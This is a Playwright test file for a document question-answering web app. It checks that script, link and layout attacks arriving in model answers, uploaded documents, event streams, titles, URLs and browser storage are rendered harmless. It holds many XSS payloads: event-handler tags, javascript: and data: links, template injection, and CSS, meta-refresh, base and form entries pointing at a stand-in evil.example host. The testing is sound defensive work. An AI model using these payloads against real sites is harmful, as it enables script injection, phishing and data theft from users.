// Documents, models and people who try to run a script in the page, to load something from another server, or to break its layout.
import assert from "node:assert/strict";
import { answered, ask, env, fits } from "./stage.mjs";
import { events } from "./events.mjs";

const attacks = [
  "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>", "javascript:alert(1)", "\"><iframe srcdoc='<script>alert(1)</script>'>",
  "'\" onmouseover=alert(1) x='", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "data:text/html,<script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>",
  "<style>*{background:url(https://evil.example/css)}</style>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=https://evil.example/>", "<form action=https://evil.example/><button>go</button></form>",
  "\u202Egnp.exe", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "<input autofocus onfocus=alert(1)>", "<link rel=stylesheet href=https://evil.example/a.css>",
];
const all = attacks.join(" ");

// What the attacks would leave behind if they were taken for HTML.
async function unharmed(page) {
  const found = await page.evaluate(() => [...document.querySelectorAll("iframe, object, embed, script:not([src^='/assets/']), svg [onbegin], base, meta[http-equiv], form[action], [style*=evil], img:not([src^='/']), link[href*=evil], math [href], svg a")]
    .concat([...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name) || (/^(href|src|action|xlink:href)$/i.test(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)))))
    .map((e) => e.outerHTML.slice(0, 200)));
  assert.deepEqual(found, []);
}

// Everything that can be opened is opened, because some of it is made only then.
async function openAll(page) {
  for (const d of await page.locator("article details:not([open]) > summary").all()) if (await d.isVisible()) await d.click();
}

const markdown = [
  "<img src=x onerror=alert(1)> <svg onload=alert(1)></svg> <script>alert(1)</script>\n\n", "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x) [e](https://example.org/ok)\n\n",
  "![picture](https://evil.example/pixel.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)\n\n", "<https://example.org/auto> <javascript:alert(1)>\n\n",
  "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```\n\n", "```\"><img src=x onerror=alert(1)>\ncode\n```\n\n", "`<img src=x onerror=alert(1)>`\n\n",
  "$\\href{javascript:alert(1)}{click}$ and $$\\url{javascript:alert(1)} \\includegraphics{https://evil.example/x.png} \\htmlStyle{background:url(https://evil.example)}{x}$$\n\n",
  "<a href=\"https://example.org\" onclick=alert(1) style=\"position:fixed;inset:0\" class=\"veil button primary\" id=app name=body>whole page</a>\n\n",
  "<form action=https://evil.example><input name=key type=password><button formaction=javascript:alert(1)>x</button></form>\n\n", "<button class=citation data-source=1>false citation</button>\n\n",
  "<input type=text value=phish><textarea>x</textarea><select><option>x</select>\n\n", "[ref]: javascript:alert(1)\n\n[ref]\n\n", "<details open ontoggle=alert(1)>x</details>\n\n", "A false mark: \u{f0001} and \u{f0002}\n\n", "<!-- comment --> &lt;img src=x onerror=alert(1)&gt;\n\n",
];

export default {
  "hostile answer of a model": async (t) => {
    const q = "What does a ship pay to a hostile model?";
    await t.script(q, markdown, { every: 5 });
    const page = await t.asked(env.main, q);
    await answered(page);
    const answer = page.getByRole("group", { name: "Answer" });
    await page.waitForFunction(() => document.querySelector("[aria-label=Answer] math, [aria-label=Answer] code[class*=hljs]")); // maths and code are set later
    await unharmed(page);
    assert.deepEqual(await answer.locator("a").evaluateAll((as) => as.filter((a) => a.hasAttribute("href")).map((a) => [a.protocol, a.target, a.rel])).then((l) => l.filter(([p, target, rel]) => !(["https:", "mailto:"].includes(p) && target === "_blank" && rel.includes("noopener")))), []);
    assert.equal(await answer.locator("img, input:not([type=checkbox]), textarea, form, select, details, [style], [id], [name]").count(), 0);
    assert.equal(await answer.locator(".veil, .button").count(), 0, "classes of the page in an answer");
    assert.equal(await answer.locator("button").count(), 0, "a false citation");
    await page.reload();
    await answered(page);
    await unharmed(page);
  },

  "huge answer of a model": async (t) => {
    const q = "What does a ship pay at length?";
    const row = `|${" x |".repeat(60)}\n`;
    await t.script(q, ["a".repeat(100_000), "\n\n", row + `|${"---|".repeat(60)}\n` + row.repeat(200), "\n\n", "> ".repeat(400) + "deep\n\n", "- ".repeat(300) + "deep\n\n", "*".repeat(5000), "\n\n", "[".repeat(3000), "\n\n$" + "{".repeat(2000) + "$\n\n$$" + "\\frac{1}{".repeat(300) + "$$\n\n", "The end of it."]);
    const page = await t.asked(env.main, q, { viewport: { width: 400, height: 700 } });
    await page.getByText("The end of it.").first().waitFor({ timeout: 30_000 });
    await answered(page);
    await fits(page, "huge answer");
    await page.getByLabel("Question", { exact: true }).fill("The page still takes questions.");
  },

  "hostile documents": async (t) => {
    const page = await t.page(env.library.replace("127.0.0.1", "localhost"));
    await page.getByRole("link", { name: "Documents", exact: true }).click();
    const text = `---\ntitle: "<img src=x onerror=alert(1)>"\ncreator: "<script>alert(1)</script>"\nsource: "javascript:alert(1)"\nrights: "<svg onload=alert(1)>"\n---\n# <img src=x onerror=alert(1)> walrus\n\nThe walrus ${attacks[0]} weighs 900 kilograms ${attacks[4]} and eats clams.\n\n## <svg onload=alert(1)>\n\n${all}\n`;
    await page.locator("input[type=file]").first().setInputFiles([
      { name: "<img src=x onerror=alert(1)>.md", mimeType: "text/markdown", buffer: Buffer.from(text) },
      { name: "page'\"><script>alert(1)<.html", mimeType: "text/html", buffer: Buffer.from(`<title>${all}</title><meta name="DC.creator" content="${attacks[0]}"><body onload=alert(1)><h1>Seal ${attacks[1]}</h1><p>The seal weighs 80 kilograms.</p>${all}`) },
      { name: "broken<svg onload=alert(1)>.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4 <img src=x onerror=alert(1)>") },
    ]);
    await page.getByText("2 documents are ready").waitFor(); // other scenarios upload documents meanwhile
    await page.getByText("1 could not be read").waitFor();
    const link = page.locator("a[href^='/documents/']", { hasText: "<img src=x" }).first();
    await link.waitFor();
    await unharmed(page);
    await link.waitFor();
    await link.click();
    await page.waitForURL(/\/documents\/./);
    await page.locator("h1").waitFor();
    await unharmed(page);
    await page.getByRole("link", { name: "New question" }).first().click();
    await ask(page, "What does the walrus weigh?");
    await answered(page);
    await openAll(page);
    await unharmed(page);
    const citation = page.getByRole("button", { name: "Source 1" }).first();
    if (await citation.count()) {
      await citation.click();
      await page.getByRole("dialog").waitFor();
      await unharmed(page);
    }
  },

  "hostile events": async (t) => {
    await t.run("run_hostile", events("run_hostile", { steps: 12, tokens: markdown, text: (name) => `${name} ${all}`, reasoning: all }));
    const page = await t.page(`${env.synthetic}/runs/run_hostile`, { viewport: { width: 360, height: 700 } });
    await page.getByText("Total", { exact: true }).waitFor();
    await openAll(page);
    await unharmed(page);
    await fits(page, "hostile events");
    await page.getByRole("button", { name: "For builders", exact: true }).click();
    await page.getByRole("region", { name: "For builders" }).getByText(/\d frames/).waitFor();
    await unharmed(page);
    await fits(page, "hostile frames");
    await page.getByRole("region", { name: "Sources" }).getByRole("button").first().click();
    await page.getByRole("dialog").waitFor();
    await unharmed(page);
    await fits(page, "hostile source");
    assert.deepEqual(await page.getByRole("dialog").locator("a").evaluateAll((as) => as.map((a) => new URL(a.href).protocol).filter((p) => !["http:", "https:"].includes(p))), []);
  },

  "sources with addresses that are none": async (t) => {
    const uris = ["javascript:alert(1)", "https://", "http://[", "data:text/html,x", "HTTPS://example.org/A", "//evil.example", " https://example.org"];
    const list = events("run_uris", { steps: 8, tokens: ["x"], sources: uris.length });
    for (const e of list) if (e.kind === "attributed") e.body.sources.forEach((s, i) => (s.uri = uris[i]));
    await t.run("run_uris", list);
    const page = await t.page(`${env.synthetic}/runs/run_uris`);
    const cards = page.getByRole("region", { name: "Sources" }).getByRole("button");
    await cards.first().waitFor();
    for (let i = 0; i < uris.length; i++) {
      await cards.nth(i).click();
      await page.getByRole("dialog").waitFor();
      await unharmed(page);
      await page.keyboard.press("Escape");
      await page.getByRole("dialog").waitFor({ state: "detached" });
    }
  },

  "hostile questions and titles": async (t) => {
    const q = `What does a ship pay in hostile words? ${all}`;
    const page = await t.asked(env.main, q);
    await answered(page);
    await openAll(page);
    await unharmed(page);
    const item = page.getByRole("navigation").locator(".list li", { hasText: "What does a ship pay in hostile words" }); // other scenarios ask meanwhile
    await item.waitFor();
    await item.hover();
    await item.getByRole("button", { name: "Rename" }).click();
    await page.getByRole("dialog").getByLabel("Title").fill(attacks.slice(0, 5).join(" "));
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByRole("dialog").waitFor({ state: "detached" });
    await unharmed(page);
    const missing = await t.page(`${env.main}/runs/${encodeURIComponent(attacks[0])}`);
    await missing.getByRole("alert").waitFor();
    await unharmed(missing);
    await missing.goto(`${env.main}/documents/${encodeURIComponent(attacks[1].replaceAll("/", ""))}?chunk=${encodeURIComponent(all)}`);
    await missing.getByRole("alert").waitFor();
    await unharmed(missing);
    await missing.goto(`${env.main}/#${encodeURIComponent(all)}`);
    await missing.getByLabel("Question", { exact: true }).waitFor();
    await unharmed(missing);
  },

  "hostile storage of the browser": async (t) => {
    const context = await t.context();
    await context.addInitScript(() => {
      localStorage.setItem("settings", '{"mode":5,"collection":{"a":1},"topK":"<img>"}');
      localStorage.setItem("language", "__proto__");
      localStorage.setItem("theme", "<img>");
    });
    const page = await t.page(env.main, { context });
    await ask(page, "What does a ship pay, whatever is stored?");
    await answered(page);
  },
};
